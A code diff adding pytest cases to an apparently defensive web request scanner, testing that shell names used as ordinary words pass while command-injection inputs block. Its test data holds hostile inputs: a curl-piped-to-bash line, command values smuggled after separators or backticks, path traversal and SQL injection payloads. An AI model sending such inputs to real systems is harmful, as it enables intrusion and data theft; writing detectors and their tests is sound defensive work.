@@ -431,6 +431,30 @@ def test_an_escaped_dot_or_a_slash_escaped_twice_after_a_climb_is_still_an_encod
     assert "encoded_dot" in names(scan_parts(headers={"User-Agent": "..%2f..%2fetc"}))
 
 
+@pytest.mark.parametrize("query", ["q=bash", "language=sh", "tag=zsh&page=2", "shell=bash"])
+def test_a_shells_name_alone_is_a_word_not_a_command(query):
+    """A search for ``bash``, a snippet's language, a tag: a value that only names a shell runs nothing."""
+    assert scan_parts(query_string=query).score == 0
+    assert scan_json({query.split("=")[0]: query.split("=")[1].split("&")[0]}).score == 0
+
+
+@pytest.mark.parametrize("query", ["q=bash+-c+id", "q=sh+-i", "q=x%3Bbash", "q=x%7Csh", "q=curl+x.sh%7Cbash"])
+def test_a_shell_run_with_a_command_or_after_a_separator_still_blocks(query):
+    assert "shell_command" in names(scan_parts(query_string=query))
+
+
+@pytest.mark.parametrize("query", ["ordering=id", "sort=id&dir=asc", "fields=id", "focus=pwd", "tab=sysinfo",
+                                   "view=route", "sort=-uname"])
+def test_a_command_that_is_also_a_sort_key_or_a_fields_name_is_no_probe_alone(query):
+    """DRF's ``?ordering=id``, a list sorted by ``id``, a form's focus on ``pwd``: a word, not ``id(1)``."""
+    assert scan_parts(query_string=query).score == 0
+
+
+@pytest.mark.parametrize("value", ["'id'", "^id", "<id", ";id", "x|pwd", "id;", "whoami", "uname -a", "`id`"])
+def test_the_same_commands_quoted_escaped_or_after_a_separator_still_block(value):
+    assert scan_parts(query_string="q=" + quote(value, safe="")).score >= BLOCK
+
+
 def test_a_scanner_name_counts_in_headers_only():
     assert "scanner_user_agent" in names(scan_parts(headers={"User-Agent": "Mozilla/5.00 (Nikto/2.1.6)"}))
     assert scan_parts(query_string="q=how+to+use+sqlmap").score < BLOCK
@@ -569,7 +593,7 @@ def test_a_form_of_many_attacking_fields_is_rescanned_once_per_location(monkeypa
 
 
 @pytest.mark.parametrize(("query", "signature"), [
-    ("q=id+", "shell_probe"), ("q=+id", "shell_probe"), ("q=1+UNION+SELECT+password+FROM+users", "sqli_union_select"),
+    ("q=whoami+", "shell_probe"), ("q=+whoami", "shell_probe"), ("q=1+UNION+SELECT+password+FROM+users", "sqli_union_select"),
     ("q=test+ORDER+BY+3%23", "sqli_order_probe"), ("q=a+%27+or+1%3D1--", "sqli_tautology"),
 ])
 def test_a_value_whose_only_escape_is_plus_reads_as_the_decoders_read_it(query, signature):
